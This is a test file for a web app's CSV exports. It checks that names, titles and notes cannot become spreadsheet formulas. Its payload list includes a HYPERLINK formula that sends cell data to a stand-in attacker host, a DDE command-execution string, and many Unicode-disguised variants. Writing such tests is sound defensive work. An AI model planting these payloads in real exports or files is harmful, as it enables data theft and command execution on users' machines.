import { randomUUID } from "node:crypto"
import { beforeAll, expect, test } from "vitest"
import { aCompany, aCreator, anAdmin, site } from "./scene.ts"

const FORMULA = 'HYPERLINK("http://evil.example/?"&A1;"ouvrir")'
/** What a spreadsheet takes for the beginning of a formula, and what people hide it behind. */
const HOSTILE = [
  ...["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"].map((sign) => sign + FORMULA),
  `\t=${FORMULA}`,
  `\r=${FORMULA}`,
  `  =${FORMULA}`,
  `\u00a0=${FORMULA}`,
  `\u200f=${FORMULA}`,
  `\u202e=${FORMULA}`,
  `\ufeff=${FORMULA}`,
  `\u200b\u2060@${FORMULA}`,
  `نادية\n=${FORMULA}`,
  `نادية;=${FORMULA}`,
  `Nadia,=${FORMULA}`,
  `Nadia\t=${FORMULA}`,
  `";=${FORMULA}`,
  `"\r\n=${FORMULA}`,
  `=cmd|' /C calc'!A0`,
]
const BEGINS_A_FORMULA = /^(?:[^\S\t\r\n]|[\p{Cc}\p{Cf}])*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u

type Company = Awaited<ReturnType<typeof aCompany>>
type Creator = Awaited<ReturnType<typeof aCreator>>
let company: Company
let creator: Creator
let listId: string

beforeAll(async () => {
  ;[company, creator, listId] = [await aCompany(), await aCreator(), randomUUID()]
  await site.sql("insert into company_lists (id, company_id, kind, name) values ($1, $2, 'list', 'Printemps')", [
    listId,
    company.companyId,
  ])
  // Past the rules for names and titles, which are another door: here the files alone have to hold.
  for (const [place, text] of HOSTILE.entries()) {
    const [influencerId, blockId] = [randomUUID(), randomUUID()]
    await site.sql("insert into influencers (id, name, is_active) values ($1, $2, true)", [influencerId, text])
    await site.sql("insert into company_list_entries (list_id, company_id, influencer_id) values ($1, $2, $3)", [
      listId,
      company.companyId,
      influencerId,
    ])
    await site.sql("insert into company_notes (company_id, influencer_id, body) values ($1, $2, $3)", [
      company.companyId,
      influencerId,
      text,
    ])
    await site.sql(
      `insert into custom_bio_links (id, influencer_id, kind, title, url, display_order)
       values ($1, $2, 'link', $3, 'https://boutique.example/', $4)`,
      [blockId, creator.influencerId, text, place],
    )
    await site.sql(
      `insert into audience_days (influencer_id, day, facet, value, views, clicks, visitors, bot_hits)
       values ($1, current_date - 2, 'block', $2, 0, 3, 0, 0)`,
      [creator.influencerId, blockId],
    )
    await site.sql(
      `insert into audit_log (id, actor, action, target, before, after, request_id)
       values ($1, $2, 'csv_scene', $2, to_jsonb($2::text), jsonb_build_object('name', $2::text), $2)`,
      [randomUUID(), text],
    )
  }
})

/** The cells of a file as RFC 4180 reads them. */
function cellsOf(csv: string) {
  return Array.from(
    csv.matchAll(/(?<=^|[;,\n])(?:"((?:[^"]|"")*)"|([^";,\r\n]*))(?=[;,]|\r?\n|$)/g),
    ([, quoted, bare]) =>
      quoted === undefined
        ? { text: bare ?? "", isQuoted: false }
        : { text: quoted.replaceAll('""', '"'), isQuoted: true },
  )
}

const isNumber = (text: string) => /^-?\d+$/.test(text)

const EXPORTS = [
  { name: "a company's list", read: () => company.browser.get(`/entreprise/lists/${listId}.csv`) },
  { name: "a company's list, in Arabic", read: () => company.browser.get(`/ar/entreprise/lists/${listId}.csv`) },
  { name: "what a search finds", read: () => company.browser.get("/entreprise/search.csv?sort=recent") },
  { name: "a creator's audience", read: () => creator.browser.get("/influencer/audience.csv?days=7") },
  { name: "a creator's audience, in Arabic", read: () => creator.browser.get("/ar/influencer/audience.csv?days=7") },
  {
    name: "the audit log",
    read: async () => (await anAdmin()).browser.post("/admin/audit.csv", { action: "csv_scene" }),
  },
]

test.each(EXPORTS)("no name, title or note becomes a formula in $name", async ({ read }) => {
  const answer = await read()
  expect(answer).toMatchObject({ status: 200, headers: { "content-type": "text/csv; charset=utf-8" } })
  expect(answer.headers["content-disposition"]).toMatch(/^attachment; filename="[\w.-]+"$/)
  expect(answer.text.startsWith("\ufeff")).toBe(true)
  const csv = answer.text.slice(1)

  const cells = cellsOf(csv)
  const known = HOSTILE.filter((text) => cells.some((cell) => cell.text.replace(/^'|(?<=[;,\t\r\n])'/g, "") === text))
  expect(known).toHaveLength(HOSTILE.length)
  expect(cells.filter(({ text }) => BEGINS_A_FORMULA.test(text) && !isNumber(text))).toEqual([])

  // As a program reads it that knows no quotes: whatever it takes for a separator, it finds no formula after it.
  const naive = csv.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^"/, ""))
  expect(naive.filter((cell) => BEGINS_A_FORMULA.test(cell) && !isNumber(cell))).toEqual([])
})

test("there is no export of tables but these", async () => {
  const { readFileSync } = await import("node:fs")
  const routes = readFileSync("app/routes.ts", "utf8")
  expect([...routes.matchAll(/[\w/:-]+\.csv\b/g)].map(String).sort()).toEqual([
    "admin/audit.csv",
    "admin/sellers.csv",
    "collaborations/income.csv",
    "entreprise/lists/:id.csv",
    "entreprise/search.csv",
    "influencer/audience.csv",
  ])
})
